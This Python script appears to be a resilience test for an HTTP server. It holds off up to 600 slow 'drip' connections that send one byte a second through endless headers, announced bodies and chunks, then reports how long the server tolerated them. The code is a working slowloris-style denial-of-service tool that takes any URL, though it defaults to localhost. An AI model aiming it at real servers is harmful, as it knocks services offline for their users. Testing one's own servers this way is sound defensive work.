#!/usr/bin/env -S python3 -B
# SPDX-License-Identifier: Apache-2.0
"""Requests that come a byte a second: headers without end, bodies that were announced, chunks. Whatever timer a byte
restarts, they restart."""
import argparse
import socket
import time

from half_open import address_of, more_files

HEADERS = b"GET /-/healthy HTTP/1.1\r\nHost: localhost\r\nX-Long: "
BODY = b"POST /api/v1/query HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000\r\n\r\n"
CHUNKS = b"POST /api/v1/query HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"


class Dripper:
    """One connection; .lived is how long the server bore it, None while it does."""

    def __init__(self, address, beginning):
        self.drop = b"1\r\na\r\n" if beginning is CHUNKS else b"a"
        self.begin, self.lived = time.monotonic(), None
        self.socket = socket.create_connection(address, 10)
        self.socket.sendall(beginning)
        self.socket.setblocking(False)

    def drip(self):
        try:
            self.socket.send(self.drop)
            gone = self.socket.recv(4096) == b""
        except BlockingIOError:
            gone = False
        except OSError:
            gone = True
        if gone:
            self.lived = time.monotonic() - self.begin
            self.socket.close()
        return not gone


def attack(url, seconds, connections=600, beginnings=(HEADERS, BODY, CHUNKS)):
    """Keeps that many drips going; the seconds that each lived that was ended by the server."""
    address, end = address_of(url), time.monotonic() + seconds
    connections, drips, lived = more_files(connections), [], []
    while time.monotonic() < end:
        round_end = time.monotonic() + 1
        try:
            # A few more a second: the ports of those that ended are not free at once.
            for i in range(min(connections - len(drips), 200)):
                drips.append(Dripper(address, beginnings[i % len(beginnings)]))
        except OSError:
            pass
        alive = [d for d in drips if d.drip()]
        lived += [d.lived for d in drips if d.lived is not None]
        drips = alive
        time.sleep(max(0, min(round_end, end) - time.monotonic()))
    for d in drips:
        d.socket.close()
    return lived


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--url", default="http://127.0.0.1:7070")
    p.add_argument("--seconds", type=float, default=60)
    args = p.parse_args()
    lived = attack(args.url, args.seconds)
    print(len(lived), "drips were ended by the server, the longest after", max(lived, default=0), "s")


if __name__ == "__main__":
    main()
